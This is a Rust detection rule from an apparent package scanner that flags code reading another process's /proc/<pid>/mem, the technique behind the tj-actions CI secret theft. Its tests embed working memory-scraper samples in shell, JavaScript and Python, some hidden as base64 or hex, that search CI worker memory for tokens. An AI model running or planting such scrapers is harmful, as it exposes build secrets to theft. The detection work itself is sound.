//! `code/process-memory-read`.

use super::finding;
use crate::CodeFinding;
use crate::classify::FileKind;
use crate::signal::{Kind, PackageFacts, Signal, truncate};
use crate::verdict::Locality;
use diligence_finding::Severity;
use regex::Regex;
use std::sync::LazyLock;

diligence_finding::declare_rule! {
    /// The package reads another process's memory through `/proc/<pid>/mem`, in any file.
    ///
    /// ## What it detects
    /// A path to another process's memory file in any text file (JavaScript, Python, shell…), in
    /// any of the shapes a program builds it: a template (`` `/proc/${pid}/mem` ``), a
    /// concatenation (`'/proc/' + pid + '/mem'`), a path join (`path.join('/proc', pid, 'mem')`),
    /// a printf or format string (`'/proc/%d/mem'`, `'/proc/{}/mem'`), a shell variable
    /// (`/proc/$PID/mem`) or a number, written out or hidden as base64 or hex (down to two
    /// levels: base64 of base64, a base64 script inside an encoded command), as in a Python
    /// scraper run through `sudo python3 -c "exec(base64.b64decode('…'))"`.
    /// `/proc/self/mem` is not another process. High; critical
    /// when the same file picks its target process by name (`/proc/<pid>/cmdline`, `comm`,
    /// `pgrep`, `pidof`) or hunts secrets in what it reads (`secret`, `token`, `password`…).
    ///
    /// ## Why it matters
    /// The tj-actions/changed-files compromise (CVE-2025-30066, March 2025) and reviewdog's
    /// action-setup read the GitHub Runner.Worker's memory for secrets marked `isSecret` and
    /// printed them, double base64, into public build logs: no network call, no credential file,
    /// nothing the read-then-send rules look for. A library has no reason to read the memory of a
    /// process it did not start.
    ///
    /// ## Example
    /// `fs.openSync(`/proc/${pid}/mem`, 'r')` after finding `Runner.Worker` in `/proc/*/cmdline`.
    ///
    /// ## Known false positives
    /// Debuggers and memory profilers shipped as npm packages (rare); reading `/proc/self/mem`
    /// or another process's `status`, `stat`, `cmdline` or `maps` alone is not matched.
    pub static PROCESS_MEMORY_READ = { id: "code/process-memory-read", severity: Severity::High };
}

/// `/proc/<another process>/mem` in the shapes source code builds it.
static MEM_PATH: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(concat!(
        r#"/proc/(?:\$\{[^}\n]{1,60}\}|\$[A-Za-z_]\w{0,30}|%\(\w{1,30}\)[sd]|%[sd]|\{[\w.\[\]()]{0,40}\}|\d+"#,
        r#"|["'`]\s*\+\s*[^;\n"'`]{1,60}?\s*\+\s*["'`])/mem\b"#,
        r#"|["'`]/proc/?["'`]\s*,\s*[^,;\n]{1,60},\s*["'`]/?mem["'`]"#
    ))
    .expect("valid regex")
});

/// The process is picked by name: its command line or name is read, or looked up by a tool.
static BY_NAME: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"/cmdline\b|/comm\b|\bpgrep\b|\bpidof\b|\btasklist\b").expect("valid regex")
});

/// What is searched for in the memory: secrets.
static SECRET_HUNT: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)secret|token|passw|credential|api_?key|private.?key|mnemonic")
        .expect("valid regex")
});

/// One finding per file that names another process's memory file.
pub(crate) fn check(p: &PackageFacts) -> Vec<CodeFinding> {
    let mut out = Vec::new();
    for f in &p.files {
        let Some(text) = f.text.as_deref() else {
            continue;
        };
        // The path as written, or in text hidden as base64/hex (a Python scraper run by
        // `python3 -c "exec(base64.b64decode('…'))"`, base64 of base64), placed at its run.
        let direct = (text.contains("/proc") && text.contains("mem"))
            .then(|| MEM_PATH.find(text))
            .flatten()
            .map(|m| (m.start(), m.as_str().to_string(), String::new()));
        let hidden = || {
            crate::decode::embedded_texts(text, 2)
                .into_iter()
                .find_map(|(at, d)| {
                    let m = MEM_PATH.find(&d)?;
                    Some((at, m.as_str().to_string(), d))
                })
        };
        let Some((at, path, decoded)) = direct.or_else(hidden) else {
            continue;
        };
        let line = text[..at].bytes().filter(|b| *b == b'\n').count() as u32 + 1;
        let targeted = BY_NAME.is_match(text) || BY_NAME.is_match(&decoded);
        let hunting = SECRET_HUNT.is_match(text) || SECRET_HUNT.is_match(&decoded);
        let sev = if targeted || hunting {
            Severity::Critical
        } else {
            PROCESS_MEMORY_READ.default_severity
        };
        let why = match (targeted, hunting) {
            (true, true) => ", picking the process by name and searching it for secrets",
            (true, false) => ", picking the process by name",
            (false, true) => ", searching it for secrets",
            (false, false) => "",
        };
        let s = Signal {
            kind: Kind::FsRead,
            line,
            func: 0,
            detail: truncate(&path, 80),
        };
        let encoded = if decoded.is_empty() {
            ""
        } else {
            ", in text hidden as base64/hex"
        };
        let msg = format!(
            "reads another process's memory ({}){encoded}{why}",
            s.detail
        );
        // The path is the whole behaviour: opening it is the read.
        let mut x = finding(
            &PROCESS_MEMORY_READ,
            sev,
            f,
            &s,
            Locality::Function,
            msg,
            vec![super::ev(f, &s)],
        );
        // A script no module requires is reached when reached code names it (read into a
        // variable and handed to `python3 -c`, run by path, started as a worker).
        if !x.reachable {
            let base = f.path.rsplit('/').next().unwrap_or(&f.path);
            x.reachable = p.files.iter().any(|o| {
                o.reachable
                    && o.path != f.path
                    && o.kind == FileKind::JavaScript
                    && o.text.as_deref().is_some_and(|t| t.contains(base))
            });
        }
        out.push(x);
    }
    out
}

#[cfg(test)]
mod tests {
    use crate::rules::test_util::{PJ, hits, scan, severity};
    use diligence_finding::Severity;

    const RULE: &str = "code/process-memory-read";

    #[test]
    fn positive_concatenated_path_in_a_class_method() {
        // Another shape than a template: a class method building the path by concatenation
        // and hunting tokens in what it reads.
        let js = "const fs = require('fs');\nclass Probe {\n  dump(pid) {\n    const fd = fs.openSync('/proc/' + pid + '/mem', 'r');\n    const buf = Buffer.alloc(4096);\n    fs.readSync(fd, buf, 0, 4096, 0x400000);\n    return buf.toString().match(/ghp_[A-Za-z0-9]{36}|npm_token/g);\n  }\n}\nmodule.exports = Probe;\n";
        let s = scan(&[("package.json", PJ), ("index.js", js)]);
        assert_eq!(hits(&s, RULE), vec![("index.js".to_string(), 4)]);
        assert_eq!(severity(&s, RULE), Some(Severity::Critical));
        assert_eq!(s.verdict.as_str(), "malicious");
    }

    #[test]
    fn positive_shell_script_with_pgrep() {
        let sh = "#!/bin/sh\nPID=$(pgrep -f agent.worker)\ndd if=/proc/$PID/mem bs=1 skip=4096 count=65536 2>/dev/null | strings\n";
        let s = scan(&[("package.json", PJ), ("scripts/dump.sh", sh)]);
        assert_eq!(hits(&s, RULE), vec![("scripts/dump.sh".to_string(), 3)]);
        assert_eq!(severity(&s, RULE), Some(Severity::Critical));
    }

    #[test]
    fn positive_path_join_is_high_alone() {
        let js = "const fs = require('fs');\nconst path = require('path');\nexports.peek = (pid, at) => {\n  const fd = fs.openSync(path.join('/proc', String(pid), 'mem'), 'r');\n  const b = Buffer.alloc(64);\n  fs.readSync(fd, b, 0, 64, at);\n  return b;\n};\n";
        let s = scan(&[("package.json", PJ), ("lib/peek.js", js)]);
        assert_eq!(hits(&s, RULE), vec![("lib/peek.js".to_string(), 4)]);
        assert_eq!(severity(&s, RULE), Some(Severity::High));
    }

    #[test]
    fn positive_python_format_string() {
        let py = "import os\nfor p in os.listdir('/proc'):\n    if 'sshd' in open('/proc/{}/cmdline'.format(p)).read():\n        mem = open('/proc/{}/mem'.format(p), 'rb')\n";
        let s = scan(&[("package.json", PJ), ("tools/m.py", py)]);
        assert_eq!(hits(&s, RULE), vec![("tools/m.py".to_string(), 4)]);
        assert_eq!(severity(&s, RULE), Some(Severity::Critical));
    }

    /// The memory reader is a Python file the reachable CLI reads by name and runs; the
    /// finding is reached (score 30 × 1.0, malicious), unlike the same file nothing names.
    #[test]
    fn script_named_by_reached_code_is_reached() {
        let pj = r#"{"name":"t","version":"1.0.0","bin":{"t":"cli.js"}}"#;
        let cli = "const fs = require('fs');
const { execSync } = require('child_process');
const py = fs.readFileSync(__dirname + '/tools/scan.py', 'utf8');
execSync('python3 -c \"$PY\"', { env: { PY: py } });
";
        let py = "import os
pid = [p for p in os.listdir('/proc') if p.isdigit() and b'worker' in open('/proc/%s/cmdline' % p, 'rb').read()][0]
mem = open('/proc/%s/mem' % pid, 'rb')
";
        let s = scan(&[("package.json", pj), ("cli.js", cli), ("tools/scan.py", py)]);
        let f = crate::rules::test_util::finding(&s, RULE);
        assert_eq!(
            (f.file.as_str(), f.line, f.reachable),
            ("tools/scan.py", 3, true)
        );
        let s = scan(&[
            ("package.json", pj),
            ("cli.js", "console.log(1);\n"),
            ("tools/scan.py", py),
        ]);
        assert!(!crate::rules::test_util::finding(&s, RULE).reachable);
    }

    #[test]
    fn negative_own_memory_and_process_status() {
        // A process-list library reads other processes' status and command lines, and a
        // sandbox probe its own memory: neither is another process's memory.
        let js = "const fs = require('fs');\nexports.list = () => fs.readdirSync('/proc').filter((d) => /^\\d+$/.test(d)).map((pid) => ({ pid, cmd: fs.readFileSync(`/proc/${pid}/cmdline`, 'utf8'), status: fs.readFileSync(`/proc/${pid}/status`, 'utf8'), maps: fs.readFileSync('/proc/' + pid + '/maps', 'utf8') }));\nexports.self = () => fs.existsSync('/proc/self/mem');\nexports.total = () => fs.readFileSync('/proc/meminfo', 'utf8');\n";
        let s = scan(&[("package.json", PJ), ("index.js", js)]);
        assert!(hits(&s, RULE).is_empty());
    }

    /// A shell command hidden as base64 of base64, decoded and piped to `sudo sh` from a
    /// CI-gated function: the path is found in the twice-decoded text, placed at its literal.
    #[test]
    fn positive_double_base64_shell_command() {
        let js = "const { execSync } = require('child_process');\nconst C = 'VUVsRVBTUW9jR2R5WlhBZ0xXWWdZV2RsYm5RdVRHbHpkR1Z1WlhJcENtUmtJR2xtUFM5d2NtOWpMeVJRU1VRdmJXVnRJR0p6UFRRd09UWWdjMnRwY0QweE1ESTBJR052ZFc1MFBUUXdPVFlnTWo0dlpHVjJMMjUxYkd3Z2ZDQnpkSEpwYm1keklId2daM0psY0NBdGFTQjBiMnRsYmdvPQ==';\nexports.diag = () => {\n  if (!process.env.CI) return;\n  console.log(execSync(`echo ${C} | base64 -d | base64 -d | sudo sh`).toString());\n};\n";
        let s = scan(&[("package.json", PJ), ("lib/diag.js", js)]);
        assert_eq!(hits(&s, RULE), vec![("lib/diag.js".to_string(), 2)]);
        assert_eq!(severity(&s, RULE), Some(Severity::Critical));
    }

    /// A Python scraper kept as hex in a Python launcher (`exec(binascii.unhexlify(…))`);
    /// it picks no process by name and names no secret word (a token pattern only): high.
    #[test]
    fn positive_hex_python_in_a_python_file() {
        let py = "import binascii\n\nexec(binascii.unhexlify('696d706f7274206f732c72650a666f72207020696e2066696c746572287374722e697364696769742c206f732e6c69737464697228272f70726f632729293a0a2020202066203d206f70656e28272f70726f632f7b7d2f6d656d272e666f726d61742870292c2027726227290a202020207072696e742872652e66696e64616c6c287262276768705f5b412d5a612d7a302d395d7b33367d272c20662e726561642831203c3c2032302929290a'))\n";
        let s = scan(&[("package.json", PJ), ("tools/run.py", py)]);
        assert_eq!(hits(&s, RULE), vec![("tools/run.py".to_string(), 3)]);
        assert_eq!(severity(&s, RULE), Some(Severity::High));
    }

    /// Benign look-alike: base64 Python run with `python3 -c` that reads its own memory and
    /// status (a memory-usage probe): no other process's memory.
    #[test]
    fn negative_base64_python_reading_its_own_memory() {
        let js = "const { spawnSync } = require('child_process');\nconst P = 'aW1wb3J0IG9zCnJzcyA9IG9wZW4oJy9wcm9jLyVkL3N0YXR1cycgJSBvcy5nZXRwaWQoKSkucmVhZCgpCnByaW50KG9zLnBhdGguZXhpc3RzKCcvcHJvYy9zZWxmL21lbScpLCByc3MpCg==';\nexports.rss = () => spawnSync('python3', ['-c', `import base64;exec(base64.b64decode('${P}'))`]).stdout.toString();\n";
        let s = scan(&[("package.json", PJ), ("index.js", js)]);
        assert!(hits(&s, RULE).is_empty());
    }
}
